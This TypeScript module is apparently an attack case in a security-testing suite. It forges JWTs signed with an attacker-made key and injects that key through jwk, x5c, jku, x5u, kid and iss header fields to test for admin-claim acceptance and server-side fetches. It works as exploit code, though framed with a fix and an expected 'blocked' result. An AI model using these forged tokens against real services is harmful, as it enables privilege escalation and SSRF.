import { KeyObject, sign } from 'node:crypto';
import { generateKeyPair } from 'jose';
import type { Attack, Judgement } from '../../kinds/attack.ts';
import { type Json, signingInput } from '../../kit/tokens/compact-token.ts';
import type { ForgedToken } from '../../kit/tokens/forged-token.ts';
import { openListener } from '../../kit/tokens/listener.ts';
import { judgePresented, presentForged, statesClaims, type TokensSeen } from '../../kit/tokens/presented-token.ts';
import { selfSigned } from '../../kit/tokens/self-signed.ts';

type Seen = TokensSeen & {
  /** Requests that the target made to an address in a token. */
  readonly callbacks: number;
};

export default {
  kind: 'attack',
  id: 'jwt-header-key-injection',
  title: 'Key injected through the token header',
  question: 'Does the server check a token with a key that the token itself brings or points to?',
  goal: 'Become an administrator with a token signed by a key of their own, or make the server fetch an address of their choice.',
  precondition: 'own-account',
  severity: 'critical',
  references: ['CWE-347', 'CWE-918', 'CVE-2018-0114', 'RFC 8725 §2.9', 'RFC 8725 §3.10', 'ASVS 9.1.3'],
  steps: [
    'The attacker makes a key pair and listens on a loopback port that serves its public half.',
    "They sign the administrator's claims with it and name it in the header: as jwk, by jku, x5u, iss and kid that lead to their listener, and as a self-signed certificate in x5c.",
    'They ask with each token who they are, and count the requests that reached their listener.',
  ],
  fix: 'Verify with keys of your own configuration alone. Ignore jwk, jku, x5u and x5c of a header, and fetch no address that a token names.',
  controls: ['jwt-embedded-key-trusted', 'jwt-key-url-followed'],
  appliesTo: statesClaims,
  expected: () => 'blocked',

  async attempt(stage) {
    const own = await generateKeyPair('ES256', { extractable: true });
    const [privateKey, publicKey] = [KeyObject.from(own.privateKey), KeyObject.from(own.publicKey)];
    const jwk = { ...publicKey.export({ format: 'jwk' }), kid: 'own', alg: 'ES256', use: 'sig' };
    await using listener = await openListener(JSON.stringify({ keys: [jwk] }), 'application/json');
    const seen = await presentForged(stage, ({ header }, claims) =>
      injections(header, claims, { privateKey, publicKey, jwk, url: listener.url }),
    );
    return { ...seen, callbacks: listener.requests() };
  },

  judge({ callbacks, ...seen }): Judgement {
    const judged = judgePresented(seen, 'tokens that bring their own key');
    if (judged.outcome === 'succeeded' || callbacks === 0)
      return { ...judged, because: `${judged.because}; the server fetched ${callbacks} addresses named in a token` };
    return {
      ...judged,
      outcome: 'succeeded',
      successes: callbacks,
      because: `the server fetched an address named in a token ${callbacks} times`,
    };
  },
} satisfies Attack<Seen>;

interface Own {
  readonly privateKey: KeyObject;
  readonly publicKey: KeyObject;
  readonly jwk: Json;
  readonly url: string;
}

function injections(header: Json, claims: Json, { privateKey, publicKey, jwk, url }: Own): ForgedToken[] {
  const x5c = [selfSigned(privateKey, publicKey).toString('base64')];
  const named: Record<string, { readonly header: Json; readonly claims?: Json }> = {
    jwk: { header: { jwk } },
    'jwk under the kid of the server': { header: { jwk: { ...jwk, kid: header.kid }, kid: header.kid } },
    jku: { header: { jku: url, kid: 'own' } },
    'jku under the kid of the server': { header: { jku: url, kid: header.kid } },
    x5u: { header: { x5u: url } },
    x5c: { header: { x5c } },
    'kid as an address': { header: { kid: url } },
    'iss as an address': { header: { kid: 'own' }, claims: { iss: url } },
  };
  return Object.entries(named).map(([mutation, changes]) => {
    const input = signingInput({ ...header, alg: 'ES256', ...changes.header }, { ...claims, ...changes.claims });
    const signature = sign('sha256', Buffer.from(input), { key: privateKey, dsaEncoding: 'ieee-p1363' });
    return { mutation, token: `${input}.${signature.toString('base64url')}` };
  });
}
